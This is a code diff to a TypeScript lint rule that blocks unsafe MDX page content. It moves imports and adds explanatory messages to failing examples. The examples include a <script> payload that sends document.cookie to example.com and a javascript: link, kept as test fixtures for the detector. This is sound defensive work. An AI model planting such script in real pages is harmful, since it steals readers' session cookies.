@@ -1,7 +1,7 @@
 import { type Rule, workOn } from '../engine/rule.ts';
-import { policyViolations } from './file-work.ts';
-import { sopBodyWith } from './examples/base-handbook.ts';
-import { FILE_PROBLEMS } from './next-steps.ts';
+import { policyViolations } from './utils/file-work.ts';
+import { sopBodyWith } from './utils/base-handbook.ts';
+import { FILE_PROBLEMS } from './utils/next-steps.ts';
 
 /**
  * The content policy on every page body: the same function the build's own pipeline
@@ -16,9 +16,21 @@ export const mdxUnsafe: Rule = {
 	next: FILE_PROBLEMS,
 	examples: {
 		fails: [
-			{ title: 'a script', files: sopBodyWith('<script>fetch("https://example.com/?c=" + document.cookie)</script>') },
-			{ title: 'code in braces', files: sopBodyWith('Today is {new Date().toDateString()}.') },
-			{ title: 'a `javascript:` link', files: sopBodyWith('[Open the portal](javascript:alert(1))') },
+			{
+				title: 'a script',
+				files: sopBodyWith('<script>fetch("https://example.com/?c=" + document.cookie)</script>'),
+				message: "uses a <script>, which would run in readers' browsers.",
+			},
+			{
+				title: 'code in braces',
+				files: sopBodyWith('Today is {new Date().toDateString()}.'),
+				message: 'runs code: {new Date().toDateString()}. A page may hold only comments in braces.',
+			},
+			{
+				title: 'a `javascript:` link',
+				files: sopBodyWith('[Open the portal](javascript:alert(1))'),
+				message: 'links to "javascript:…", an address that would run script or hide content in readers\' browsers.',
+			},
 		],
 		passes: [{ title: 'a comment and an ordinary link', files: sopBodyWith('{/* Checked with the pod lead. */}\n[Open the portal](https://portal.example.com/)') }],
 	},
